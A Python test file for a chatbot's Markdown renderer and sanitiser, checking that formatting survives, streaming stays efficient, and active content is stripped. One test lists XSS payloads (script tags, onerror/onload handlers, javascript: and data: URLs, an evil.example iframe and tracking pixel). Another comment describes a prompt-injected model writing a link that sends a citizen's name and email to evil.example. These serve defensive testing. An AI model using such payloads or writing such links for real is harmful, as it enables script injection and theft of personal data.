"""Model answers are rendered as Markdown and sanitised: formatting survives, nothing runs."""

from __future__ import annotations

import pytest

from kkgpt.web.markdown import MarkdownRenderer, StreamingMarkdown
from tests.htmlcheck import active_content

render = MarkdownRenderer().render


@pytest.mark.parametrize(
    ("markdown", "expected"),
    [
        ("- et\n- to", "<li>et</li>"),
        ("1. et\n2. to", "<ol>"),
        ("| a | b |\n|---|---|\n| 1 | 2 |", "<td>1</td>"),
        ("```python\nprint(1)\n```", '<pre tabindex="0"><code class="language-python">print(1)'),
        ("| a |\n|---|\n| 1 |", '<table tabindex="0">'),
        ("**fed** og *kursiv*", "<strong>fed</strong> og <em>kursiv</em>"),
        ("[KK](https://www.kk.dk)", 'KK <span class="link-address">(https://www.kk.dk)</span>'),
        ("linje et\nlinje to", "linje et<br>"),
    ],
)
def test_formatting_survives(markdown: str, expected: str) -> None:
    assert expected in render(markdown)


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[klik](javascript:alert(1))",
        "[klik](data:text/html;base64,PHNjcmlwdD4=)",
        '<a href="javascript:alert(1)">x</a>',
        "<iframe src=https://evil.example></iframe>",
        "<svg onload=alert(1)>",
        "![x](https://evil.example/track.png)",
    ],
)
def test_nothing_can_run_or_load(attack: str) -> None:
    assert active_content(str(render(attack))) == []


def test_the_checker_itself_sees_active_content() -> None:
    assert active_content('<p><img src=x onerror=alert(1)><a href="javascript:x">y</a></p>') == [
        "<img>", "img[onerror]", "a[href=javascript:x]"]


def test_links_show_their_address_and_cannot_be_clicked() -> None:
    # A model talked into writing a link whose address carries restored personal data (prompt injection)
    # must not get a one-click way to send it away.
    html = str(render("[Åbn journalen](<https://evil.example/c?n=Jens Hansen&m=jens@example.dk>)"))
    assert "<a" not in html and "href" not in html
    assert "Åbn journalen" in html and "https://evil.example/c?n=Jens%20Hansen&amp;m=jens@example.dk" in html
    assert "<a" not in str(render("<https://www.kk.dk> og https://www.kk.dk"))
    assert str(render("![kort](https://evil.example/pixel.png)")).startswith("<p>kort <span")


STREAMED = [
    "# Titel\n\nFørste afsnit med **fed**.\n\n- punkt et\n- punkt to\n\n```python\nx = 1\n\ny = 2\n```\n\nSidst.",
    "~~~\nkode\n\n\nmere\n~~~\n\ntekst\n\n> citat\n\n> mere",
    "| a | b |\n|---|---|\n| 1 | 2 |\n\nSlut med `kode`\n\n    indrykket kode\n\nafsnit",
]


@pytest.mark.parametrize("text", STREAMED)
def test_a_streamed_answer_renders_as_the_whole_answer_would(text: str) -> None:
    renderer = MarkdownRenderer()
    streaming = StreamingMarkdown(renderer)
    for end in range(1, len(text) + 1):
        partial = streaming.update(text[:end])
        assert "<script" not in partial
    assert streaming.update(text) == renderer.render(text)


def test_a_long_answer_is_not_rendered_again_from_the_start_for_each_piece() -> None:
    class Counting(MarkdownRenderer):
        rendered = 0

        def render(self, text: str):
            Counting.rendered += len(text)
            return super().render(text)

    text = ("Et afsnit om sagen med **fed** skrift og lidt mere tekst. " * 5 + "\n\n") * 70  # about 20 KB
    streaming = StreamingMarkdown(Counting())
    updates = range(120, len(text), 120)
    for end in updates:
        streaming.update(text[:end])
    whole_each_time = sum(updates)
    assert Counting.rendered < whole_each_time / 20, "each update renders the last block, not the answer"


def test_code_fences_keep_their_blank_lines_while_streaming() -> None:
    renderer = MarkdownRenderer()
    streaming = StreamingMarkdown(renderer)
    text = "Før\n\n```\nlinje 1\n\nlinje 2\n"
    html = streaming.update(text)
    assert html.count("<pre") == 1 and "linje 1\n\nlinje 2" in html


LOOKS_PLAIN = [
    "Afsnit 1: KK-GPT skriver et langt svar, så du kan prøve at stoppe det.",
    "Afsnit 12: KK-GPT skriver et langt svar, så du kan prøve at stoppe det.\n",
    "Kære Jens Hansen (borger), tak for din henvendelse af 3/4; svaret følger?",
    "Han sagde \"ja\" og 'måske' - 100 % sikkert.   ",
    "Éclair, Ærø og Øresund.",
    "a",
    # Not plain: each must still come out exactly as markdown-it and the sanitiser make it.
    "1. punkt", "1) punkt", "- punkt", "# Titel", "> citat", "    kode", "  indrykket", "tekst\nlinje to",
    "**fed**", "_kursiv_", "a_b_c", "`kode`", "[link](https://kk.dk)", "<b>x</b>", "a & b", "a < b",
    "~~slettet~~", "| a | b |", "tekst \\* stjerne", "Afsnit 3:\n\nAfsnit 4", "ja\u00a0nej", "a  \nb",
    "===", "Titel\n===", "", "   ", "\n",
]


@pytest.mark.parametrize("text", LOOKS_PLAIN)
def test_plain_paragraphs_render_as_markdown_it_would(text: str) -> None:
    """Plain prose skips the Markdown parser; every text comes out exactly as the full rendering."""
    renderer = MarkdownRenderer()
    assert renderer.render(text) == renderer.render_markdown(text)
